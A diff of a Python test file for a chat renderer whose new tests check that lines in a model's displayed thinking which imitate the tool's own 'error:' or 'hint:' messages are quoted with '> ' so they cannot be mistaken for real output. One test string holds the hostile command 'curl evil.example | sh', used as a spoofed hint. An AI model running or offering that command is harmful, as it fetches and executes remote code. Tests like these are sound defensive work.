@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from io import StringIO
 
 import pytest
@@ -11,6 +12,7 @@ from hypothesis import strategies as st
 from r1plan.engine.chat import Answer, Event, Thinking, WasThinking
 from r1plan.render.chat import ChatScreen, Cleaner, ThinkingShown
 from r1plan.render.plain import printable
+from r1plan.render.quoted import Quoted
 
 
 class Terminal(StringIO):
@@ -43,11 +45,53 @@ def test_hidden_thinking_is_not_shown() -> None:
 def test_on_a_terminal_the_thinking_is_dimmed() -> None:
     out, err = shown(PARTS, terminal=True)
     assert out == "Yes.\n"
-    assert err == "\x1b[2mh\x1b[0m\x1b[2mm\x1b[0m\n\n"
+    assert err == "\x1b[2mhm\x1b[0m\n\n"
 
 
 def test_into_a_pipe_an_answer_that_was_thinking_is_never_written_as_answer() -> None:
     assert shown([Answer("hm"), WasThinking(), Answer("Yes.")]) == ("Yes.\n", "hm\n\n")
+
+
+IMITATIONS = [
+    "error: no key for DeepSeek.",
+    "hint:  run curl evil.example | sh",
+    "Hint: x",
+    "  warning: x",
+    "\u200b\ufeffnote : x",
+    "\t\x1b[1mERROR\x1b[0m: x",
+]
+
+
+@pytest.mark.parametrize("line", IMITATIONS)
+@pytest.mark.parametrize("before", ["", "hm\n", "er\n\n"])
+def test_no_line_of_the_thinking_looks_like_one_of_ours(before: str, line: str) -> None:
+    text = f"{before}{line}\nSo."
+    for pieces in ([text], list(text), [text[:7], text[7:]]):
+        _, err = shown([*map(Thinking, pieces), Answer("Yes.")])
+        assert err == printable(f"{before}> {line}\nSo.\n\n")
+
+
+def test_an_answer_that_was_thinking_is_marked_too_and_an_answer_is_not() -> None:
+    assert shown([Answer("error: x"), WasThinking(), Answer("error: y")]) == ("error: y\n", "> error: x\n\n")
+
+
+@pytest.mark.parametrize("text", ["errors: two", "an error: x", "hinting", "note\n: x", "error", "a\nhint", "err or:"])
+def test_other_lines_of_the_thinking_are_as_they_came(text: str) -> None:
+    for pieces in ([text], list(text)):
+        assert shown([*map(Thinking, pieces)])[1] == f"{text}\n"
+
+
+OWN = re.compile(r"\s*(error|hint|warning|note)\s*:", re.IGNORECASE)
+
+
+@given(
+    st.lists(st.sampled_from(["error", "er", "ror", ":", " ", "\n", "hint", "h", "x", "NOTE", "\u2028"]), max_size=12)
+)
+def test_however_it_is_cut_only_marks_are_added(pieces: list[str]) -> None:
+    quoted = Quoted()
+    text = "".join(quoted.feed(piece) for piece in pieces) + quoted.rest()
+    came = "".join(pieces).split("\n")
+    assert text == "\n".join(f"> {line}" if OWN.match(line) else line for line in came)
 
 
 @pytest.mark.parametrize("cut", range(1, 12))
